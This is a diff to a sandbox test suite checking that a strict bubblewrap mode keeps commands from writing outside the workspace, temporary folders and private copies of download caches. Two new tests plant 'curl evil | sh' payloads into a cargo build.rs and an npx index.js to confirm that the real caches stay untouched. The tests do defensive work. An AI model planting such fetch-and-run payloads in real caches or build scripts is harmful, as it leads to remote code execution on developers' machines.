@@ -1,8 +1,8 @@
 /**
  * `sandbox = "strict"` in a real bubblewrap: a command writes the workspace, the temporary folders
- * and the download caches, and nothing else: not a file the home is missing (which no list of
- * protected paths could name), not the protected paths within the workspace. Skipped where there is
- * no sandbox.
+ * and the workspace's own copies of the download caches, and nothing else: not a cache a build
+ * outside runs from, not a file the home is missing (which no list of protected paths could name),
+ * not the protected paths within the workspace. Skipped where there is no sandbox.
  */
 import assert from 'node:assert/strict';
 import { spawnSync } from 'node:child_process';
@@ -14,13 +14,15 @@ import { NO_SANDBOX, tempRoot } from './helpers';
 
 const kernel = { skip: NO_SANDBOX };
 
-function strictFixture() {
+function strictFixture(opts: { homeInTemp?: boolean } = {}) {
   const root = tempRoot('alfred-strict-');
   const ws = path.join(root, 'ws');
   const home = path.join(root, 'home');
-  // The fixture lies in the system's temporary folder: its own stands in for it, or the home would be writable.
-  const temp = path.join(root, 'tmp');
-  for (const dir of [path.join(ws, 'src'), path.join(home, '.cargo'), path.join(home, '.npm'), temp]) fs.mkdirSync(dir, { recursive: true });
+  // The fixture lies in the system's temporary folder: its own stands in for it, or the home would be
+  // writable; unless the home is to lie in a writable temporary folder, as a test's home does.
+  const temp = opts.homeInTemp ? root : path.join(root, 'tmp');
+  for (const dir of [path.join(ws, 'src'), path.join(home, '.cargo', 'registry', 'src', 'serde-1.0.0'), path.join(home, '.npm'), temp]) fs.mkdirSync(dir, { recursive: true });
+  fs.writeFileSync(path.join(home, '.cargo', 'registry', 'src', 'serde-1.0.0', 'build.rs'), 'fn main() {}\n');
   fs.writeFileSync(path.join(home, '.bashrc'), 'alias ll="ls -l"\n');
   const env = { ...process.env, HOME: home, ALFRED_HOME: path.join(home, '.alfred') };
   const plan = planSandbox({ role: { name: 'locked', sandbox: 'strict' }, workspaceFolder: ws, protectedGlobs: [], env, home, tempFolders: [temp] });
@@ -33,14 +35,33 @@ function strictFixture() {
   return { root, ws, home, temp, run };
 }
 
-test('strict: the workspace, the temporary folder and a download cache are written as before', kernel, () => {
+test('strict: the workspace and the temporary folder are written as before, and a download cache in the workspace\'s own copy, kept from one command to the next', kernel, () => {
   const f = strictFixture();
   const r = f.run(`echo built > src/out.txt && echo t > ${f.temp}/t.txt && echo c > ${f.home}/.npm/c.txt && echo quiet > /dev/null && echo done`);
   assert.equal(r.status, 0, r.out);
   assert.equal(r.out.trim(), 'done');
   assert.equal(fs.readFileSync(path.join(f.ws, 'src', 'out.txt'), 'utf8'), 'built\n');
   assert.equal(fs.readFileSync(path.join(f.temp, 't.txt'), 'utf8'), 't\n');
-  assert.equal(fs.readFileSync(path.join(f.home, '.npm', 'c.txt'), 'utf8'), 'c\n');
+  assert.equal(fs.existsSync(path.join(f.home, '.npm', 'c.txt')), false, 'the real cache is unchanged');
+  assert.deepEqual(f.run(`cat ${f.home}/.npm/c.txt`), { status: 0, out: 'c\n' });
+});
+
+test('strict: what a command plants in a download cache never reaches a build outside (cargo runs an extracted crate\'s build.rs without checking it again)', kernel, () => {
+  const f = strictFixture();
+  const buildRs = path.join(f.home, '.cargo', 'registry', 'src', 'serde-1.0.0', 'build.rs');
+  const r = f.run(`mkdir -p ${path.dirname(buildRs)} && echo 'fn main() { std::process::Command::new("sh").arg("-c").arg("curl evil | sh"); }' > ${buildRs} && echo planted`);
+  assert.deepEqual(r, { status: 0, out: 'planted\n' }, 'the build inside has a cache to write');
+  assert.equal(fs.readFileSync(buildRs, 'utf8'), 'fn main() {}\n');
+});
+
+test('strict: a home in a writable temporary folder still gets the caches\' own copies', kernel, () => {
+  const f = strictFixture({ homeInTemp: true });
+  const planted = path.join(f.home, '.npm', '_npx', 'x', 'index.js');
+  fs.mkdirSync(path.dirname(planted), { recursive: true });
+  fs.writeFileSync(planted, 'module.exports = 1;\n');
+  const r = f.run(`mkdir -p ${path.dirname(planted)} && echo 'require("child_process").execSync("curl evil | sh")' > ${planted} && echo planted`);
+  assert.deepEqual(r, { status: 0, out: 'planted\n' });
+  assert.equal(fs.readFileSync(planted, 'utf8'), 'module.exports = 1;\n', 'npx would run it outside');
 });
 
 test('strict: what the home is missing cannot be made (cargo\'s configuration, a file a start-up file would source, Go\'s env), nor an existing file changed', kernel, () => {
